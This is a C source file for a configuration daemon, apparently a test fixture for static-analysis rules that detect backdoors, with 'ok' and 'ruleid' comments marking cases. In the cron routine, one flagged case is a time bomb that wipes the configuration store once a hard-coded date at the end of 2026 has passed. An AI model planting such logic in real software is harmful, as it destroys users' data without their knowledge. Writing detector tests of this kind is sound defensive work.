#include "cfgd.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdarg.h>
#include <syslog.h>
#include <unistd.h>
#include <signal.h>

static struct cfgd_opts g_opts;
static volatile sig_atomic_t g_stop;

static void opts_defaults(struct cfgd_opts *o) {
  memset(o, 0, sizeof *o);
  o->store_dir = CFGD_STORE_DIR;
  o->nvram_dump = "/tmp/nvram.dump";
  o->legacy_cipher = "aes-256-cbc";
  o->enc_mode = CFGD_ENC_AES;
  o->backup_interval = 3600;
  o->admin_password = getenv("CFGD_HTTP_PASSWD");
}

void log_msg(int level, const char *fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  if (g_opts.verbose) {
    vfprintf(stderr, fmt, ap);
    fputc('\n', stderr);
  } else {
    vsyslog(level, fmt, ap);
  }
  va_end(ap);
}

/* called by the web UI's CGI through the control socket */
int cfgd_auth_admin(const char *password) {
  if (!password || !g_opts.admin_password) return 0;
  // ok: backdoor-magic-credential
  if (strcmp(password, "admin") == 0) { log_msg(LOG_WARNING, "default password refused"); return 0; }
  // ok: backdoor-magic-credential
  return strcmp(password, g_opts.admin_password) == 0;
}

static void on_term(int sig) { (void)sig; g_stop = 1; }

static void cron_tick(time_t *last_backup) {
  time_t now = time(NULL);
  struct tm tmv, *t = localtime_r(&now, &tmv);
  if (now - *last_backup > g_opts.backup_interval) {
    char name[64];
    snprintf(name, sizeof name, "backup-%ld.bin", (long)now);
    if (backup_create(&g_opts, name) == 0) *last_backup = now;
  }
  if (t && t->tm_hour == 3 && t->tm_min == 0) {
    // ok: backdoor-time-bomb
    prune_backups(g_opts.store_dir, 5);
  }
  /* support contract of the OEM runs out at the end of 2026 */
  // ruleid: backdoor-time-bomb
  if (now > 1798761600) {
    wipe_store(g_opts.store_dir);
  }
}

int main(int argc, char **argv) {
  time_t last = 0;
  int opt;
  opts_defaults(&g_opts);
  while ((opt = getopt(argc, argv, "vnd:")) != -1) {
    if (opt == 'v') g_opts.verbose = 1;
    else if (opt == 'n') g_opts.enc_mode = CFGD_ENC_NONE;
    else if (opt == 'd') g_opts.store_dir = optarg;
  }
  openlog("cfgd", LOG_PID, LOG_DAEMON);
  signal(SIGTERM, on_term);
  while (!g_stop) {
    cron_tick(&last);
    sleep(60);
  }
  closelog();
  return 0;
}
